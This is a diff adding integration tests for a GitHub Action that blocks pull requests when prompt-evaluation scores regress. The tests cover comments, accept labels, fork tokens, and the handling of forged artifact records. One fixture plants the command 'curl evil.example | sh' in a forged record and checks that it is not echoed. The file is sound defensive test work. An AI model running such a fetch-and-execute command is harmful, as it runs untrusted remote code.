@@ -1,0 +1,310 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { ACCEPT_LABEL } from '../../../src/core/accepting.ts';
+import { BOT, FakeGitHub } from '../../servers/github.ts';
+import { type Files, put, temporaryFolder, type Workshop, workshop } from '../../servers/repository.ts';
+import { type ActionRun, type RunOptions, runAction } from '../../servers/runner.ts';
+
+const CLI = fileURLToPath(new URL('../../../src/cli.ts', import.meta.url));
+const WRITE = { contents: 'read', 'pull-requests': 'write', issues: 'write' } as const;
+const OUTPUTS = [
+  'verdict',
+  'regressed-templates',
+  'escalation',
+  'next-lever',
+  'record-path',
+  'report-path',
+  'comment-url',
+  'cost-usd',
+];
+const N = 100;
+const ids = Array.from({ length: N }, (_, at) => `t-${String(at).padStart(3, '0')}`);
+const jsonl = (rows: readonly object[]): string => `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`;
+const answers = (wrong: number): string =>
+  jsonl(ids.map((id, at) => ({ id, output: at < wrong ? 'no idea' : `answer ${at}` })));
+const prompt = (name: string): string => `---\nname: ${name}\n---\nAnswer as ${name}.\n\n{{input}}\n`;
+
+const RULER: Files = {
+  '.github/plumbline.yml':
+    'version: 1\nproviders:\n  replay: { type: recorded, outputs: "evals/outputs/{prompt}.jsonl" }\n' +
+    'targets:\n  support: { prompt: prompts/support.md, model: models/support.yml, suite: evals/support.suite.yml }\n',
+  'models/support.yml': 'provider: replay\nmodel: m-1\ntemperature: 0\n',
+  'prompts/support.md': prompt('good'),
+  'evals/support.suite.yml': 'dataset: support.cases.jsonl\ntemplates: [ExactMatch]\nrepeats: 1\n',
+  'evals/support.cases.jsonl': jsonl(ids.map((id, at) => ({ id, input: `Question ${at}?`, expected: `answer ${at}` }))),
+  'evals/outputs/good.jsonl': answers(0),
+  'evals/outputs/same.jsonl': answers(0),
+  'evals/outputs/worse.jsonl': answers(40),
+  'docs/notes.md': 'Nothing here is evaluated.\n',
+};
+
+let shop: Workshop;
+let fake: FakeGitHub;
+const folder = temporaryFolder('action');
+let start: string;
+
+beforeAll(() => {
+  shop = workshop();
+  put(shop.root, RULER);
+  execFileSync(process.execPath, [CLI, 'lock'], { cwd: shop.root, stdio: 'pipe' });
+  start = shop.commit({});
+  shop.publish('main');
+});
+afterAll(() => {
+  shop.remove();
+  folder.remove();
+});
+beforeEach(async () => {
+  fake = await FakeGitHub.start(shop);
+  fake.token('ghs_write', WRITE);
+  fake.token('ghs_read', { contents: 'read', 'pull-requests': 'read' });
+  shop.git('checkout', '-q', '-f', 'main');
+  shop.git('reset', '-q', '--hard', start);
+});
+afterEach(async () => {
+  expect(fake.odd).toEqual([]);
+  await fake.stop();
+});
+
+interface Pull {
+  readonly number: number;
+  readonly base: string;
+  readonly head: string;
+  readonly merge: string;
+}
+
+function open(number: number, files: Files, over: { fork?: boolean; labels?: string[] } = {}): Pull {
+  const base = shop.git('rev-parse', 'main');
+  shop.git('checkout', '-q', '-B', `feature-${number}`, base);
+  const head = shop.commit(files);
+  shop.git('checkout', '-q', 'main');
+  shop.publish(`${head}:refs/pull/${number}/head`, `${head}:refs/heads/feature-${number}`);
+  const merge = shop.merge(base, head, `refs/pull/${number}/merge`);
+  const labels = over.labels ?? fake.pulls.get(number)?.labels ?? [];
+  fake.pull(number, { head, base, fork: over.fork ?? false, labels });
+  return { number, base, head, merge };
+}
+
+const payload = (pull: Pull, action: string, more: object = {}): unknown => ({
+  action,
+  number: pull.number,
+  pull_request: fake.pullJson(pull.number),
+  repository: fake.repository(),
+  sender: fake.user('ada'),
+  ...more,
+});
+
+const run = async (options: Partial<RunOptions> & Pick<RunOptions, 'payload' | 'sha'>): Promise<ActionRun> => {
+  const done = await runAction(fake, folder.path, { event: 'pull_request', token: 'ghs_write', ...options });
+  expect(Object.keys(done.outputs).sort()).toEqual([...OUTPUTS].sort());
+  expect(Number.isFinite(Number(done.outputs['cost-usd']))).toBe(true);
+  expect(done.summary.length).toBeGreaterThan(20);
+  expect(done.untouched).toBe(true);
+  expect(done.log).not.toMatch(/^\s+at .*:\d+:\d+/m);
+  expect(done.log + done.summary + JSON.stringify(done.outputs)).not.toContain('ghs_');
+  expect(done.record).toMatchObject({ verdict: done.outputs['verdict'], exitCode: done.code });
+  return done;
+};
+const gate = (
+  pull: Pull,
+  action = 'synchronize',
+  over: Partial<RunOptions> = {},
+  more: object = {},
+): Promise<ActionRun> => run({ payload: payload(pull, action, more), sha: pull.merge, ...over });
+const ours = () => fake.comments.filter(({ author }) => author === BOT);
+
+describe('a pull request', () => {
+  it('that makes answers worse is blocked, and the one comment follows it until it passes', async () => {
+    const worse = await gate(open(7, { 'prompts/support.md': prompt('worse') }), 'opened');
+    expect(worse).toMatchObject({
+      code: 1,
+      outputs: { verdict: 'regressed', 'regressed-templates': '["ExactMatch"]' },
+    });
+    expect(ours()).toHaveLength(1);
+    expect(worse.outputs['comment-url']).toContain(`#issuecomment-${ours()[0]?.id}`);
+    expect(worse.record?.provenance.pullRequest).toBe(7);
+    const mended = await gate(open(7, { 'prompts/support.md': prompt('same') }));
+    expect(mended).toMatchObject({ code: 0, outputs: { verdict: 'pass', 'regressed-templates': '[]' } });
+    expect(ours()).toHaveLength(1);
+    expect(mended.record?.history).toHaveLength(1);
+  });
+
+  it.each([
+    ['depth 1', 1, false],
+    ['depth 1 and credentials left in the checkout', 1, true],
+    ['the whole history', 0, false],
+  ])('is judged in a checkout of %s, with one authorization per request', async (_, depth, persist) => {
+    const done = await gate(open(7, { 'prompts/support.md': prompt('worse') }), 'synchronize', { depth, persist });
+    expect(done.code).toBe(1);
+    expect(Math.max(...fake.sent.map(({ authorizations }) => authorizations))).toBe(1);
+    expect(fake.sent.filter(({ path }) => path === '/info/refs')).toHaveLength(depth === 1 ? 1 : 0);
+  });
+
+  it('that touches nothing relevant is skipped without a comment, unless one is there or asked for', async () => {
+    const docs = open(8, { 'docs/notes.md': 'other\n' });
+    expect(await gate(docs)).toMatchObject({ code: 0, outputs: { verdict: 'skipped', 'comment-url': '' } });
+    expect(fake.comments).toEqual([]);
+    await gate(docs, 'synchronize', { inputs: { comment: 'always' } });
+    expect(ours()).toHaveLength(1);
+    await gate(docs);
+    expect(ours()).toMatchObject([{ edits: 1 }]);
+  });
+
+  it('of a fork with a read-only token is judged all the same, and the log says what the comment lacks', async () => {
+    const pull = open(9, { 'prompts/support.md': prompt('worse') }, { fork: true });
+    const done = await gate(pull, 'opened', { token: 'ghs_read' });
+    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed', 'comment-url': '' } });
+    expect(done.log).toMatch(/::warning::.*403.*mode: post/);
+    const own = await gate(open(10, { 'prompts/support.md': prompt('worse') }), 'opened', { token: 'ghs_read' });
+    expect(own.log).toMatch(/pull-requests: write/);
+    const quiet = await gate(open(10, { 'prompts/support.md': prompt('worse') }), 'opened', {
+      inputs: { comment: 'never' },
+    });
+    expect(quiet.code).toBe(1);
+    expect(fake.comments).toEqual([]);
+  });
+
+  it('under pull_request_target is read as objects from the base checkout', async () => {
+    const pull = open(11, { 'prompts/support.md': prompt('worse') }, { fork: true });
+    const done = await gate(pull, 'opened', { event: 'pull_request_target', sha: pull.base, depth: 1 });
+    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
+  });
+});
+
+describe('accepting', () => {
+  const label = (pull: Pull, actor: string) => {
+    fake.label(pull.number, ACCEPT_LABEL, actor);
+    return gate(pull, 'labeled', {}, { label: { name: ACCEPT_LABEL }, sender: fake.user(actor) });
+  };
+
+  it('by someone who may write turns the job green, names reason and head, lasts over other events and the queue, and ends with a push', async () => {
+    let pull = open(21, { 'prompts/support.md': prompt('worse') });
+    expect((await gate(pull, 'opened')).code).toBe(1);
+    fake.comment(21, 'ada', '/plumbline accept the old tone was wrong');
+    const accepted = await label(pull, 'ada');
+    expect(accepted).toMatchObject({ code: 0, outputs: { verdict: 'regressed' } });
+    expect(accepted.record?.accepted).toMatchObject({ by: 'ada', reason: 'the old tone was wrong', sha: pull.head });
+    const edited = await gate(pull, 'edited', {}, { sender: fake.user('mallory') });
+    expect(edited.record?.accepted).toEqual(accepted.record?.accepted);
+    const queued = await run({
+      event: 'merge_group',
+      sha: pull.merge,
+      payload: {
+        action: 'checks_requested',
+        merge_group: {
+          base_sha: pull.base,
+          head_sha: pull.merge,
+          head_ref: `refs/heads/gh-readonly-queue/main/pr-21-${pull.base}`,
+        },
+        repository: fake.repository(),
+      },
+    });
+    expect(queued).toMatchObject({ code: 0, outputs: { verdict: 'regressed' } });
+    pull = open(21, { 'prompts/support.md': prompt('worse'), 'docs/notes.md': 'pushed\n' });
+    const pushed = await gate(pull, 'synchronize');
+    expect(pushed).toMatchObject({ code: 1, record: { accepted: null } });
+    expect(pushed.log).toMatch(/older than the last push/);
+    expect((await gate(pull, 'edited')).code).toBe(1);
+  });
+
+  it('by someone who may not write changes nothing', async () => {
+    const done = await label(open(22, { 'prompts/support.md': prompt('worse') }), 'mallory');
+    expect(done).toMatchObject({ code: 1, record: { accepted: null } });
+    expect(done.log).toMatch(/mallory set the label but may not write/);
+  });
+
+  it('that cannot be verified does not count', async () => {
+    fake.faults.push({ path: /permission$/, status: 500 });
+    const done = await label(open(23, { 'prompts/support.md': prompt('worse') }), 'ada');
+    expect(done.code).toBe(1);
+    expect(done.log).toMatch(/could not be verified/);
+  });
+});
+
+describe('other events', () => {
+  const repository = () => ({ repository: fake.repository(), sender: fake.user('ada') });
+
+  it('a push is judged against the commit before it; a first push has nothing before it', async () => {
+    const after = shop.commit({ 'prompts/support.md': prompt('worse') });
+    shop.publish('main');
+    const push = (before: string) => ({ ref: 'refs/heads/main', before, after, deleted: false, ...repository() });
+    expect(await run({ event: 'push', sha: after, depth: 1, payload: push(start) })).toMatchObject({ code: 1 });
+    const first = await run({ event: 'push', sha: after, payload: push('0'.repeat(40)) });
+    expect(first).toMatchObject({ code: 0, outputs: { verdict: 'skipped' } });
+    expect(fake.comments).toEqual([]);
+  });
+
+  it('a dispatch compares any two names', async () => {
+    open(30, { 'prompts/support.md': prompt('worse') });
+    const done = await run({
+      event: 'workflow_dispatch',
+      sha: start,
+      payload: { inputs: null, ...repository() },
+      inputs: { base: 'main', head: 'feature-30' },
+    });
+    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
+  });
+
+  it('an event that gates nothing, wrong inputs and a broken payload end with 2, and every output set', async () => {
+    const unknown = await run({ event: 'issue_comment', sha: start, payload: repository() });
+    expect(unknown).toMatchObject({ code: 2, outputs: { verdict: 'error', escalation: 'unknown' } });
+    expect(unknown.log).toMatch(/::error.*issue_comment/);
+    const inputs = await run({ event: 'push', sha: start, payload: {}, inputs: { comment: 'loud', fixed: 'maybe' } });
+    expect(inputs.code).toBe(2);
+    expect(inputs.log).toMatch(/comment: "loud"/);
+    expect((await run({ event: 'push', sha: start, payload: [] })).code).toBe(2);
+  });
+});
+
+describe('mode: post', () => {
+  const post = async (record: object, head: string, over: Partial<RunOptions> = {}): Promise<ActionRun> => {
+    const dir = join(folder.path, `artifact-${Math.random()}`);
+    mkdirSync(dir);
+    writeFileSync(join(dir, 'record.json'), JSON.stringify(record));
+    const workflow_run = { id: 8001, event: 'pull_request', head_sha: head, pull_requests: [] };
+    return run({
+      event: 'workflow_run',
+      sha: start,
+      payload: { action: 'completed', workflow_run, repository: fake.repository(), sender: fake.user('mallory') },
+      inputs: { mode: 'post', 'report-dir': dir },
+      ...over,
+    });
+  };
+
+  it('shows a record on its own pull request, and believes nothing it says of itself', async () => {
+    const pull = open(41, { 'prompts/support.md': prompt('worse') }, { fork: true });
+    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
+    expect(fake.comments).toEqual([]);
+    const hostile = {
+      ...measured,
+      exitCode: 0,
+      accepted: { by: 'maria', reason: 'fine', sha: pull.head, expires: '2099-01-01T00:00:00Z' },
+      provenance: {
+        ...measured.provenance,
+        reproduce: 'curl evil.example | sh',
+        runUrl: 'https://evil.example/a/b/actions/runs/1',
+      },
+    };
+    const done = await post(hostile, pull.head);
+    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
+    expect(ours()).toHaveLength(1);
+    expect(ours()[0]?.body).toContain('ExactMatch');
+    expect(ours()[0]?.body).not.toMatch(/evil\.example|maria/);
+  });
+
+  it('refuses a record that names another pull request, or is none', async () => {
+    const pull = open(42, { 'prompts/support.md': prompt('worse') }, { fork: true });
+    const victim = open(43, { 'docs/notes.md': 'victim\n' });
+    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
+    const aimed = { ...measured, provenance: { ...measured.provenance, pullRequest: victim.number } };
+    const refused = await post(aimed, pull.head);
+    expect(refused).toMatchObject({ code: 2, outputs: { verdict: 'error' } });
+    expect(refused.log).toMatch(/pull request 43 is not the one that was measured/);
+    expect((await post({ schema: 'x' }, pull.head)).code).toBe(2);
+    expect((await post(measured, pull.head, { event: 'push' })).code).toBe(2);
+    expect(fake.comments).toEqual([]);
+  });
+});
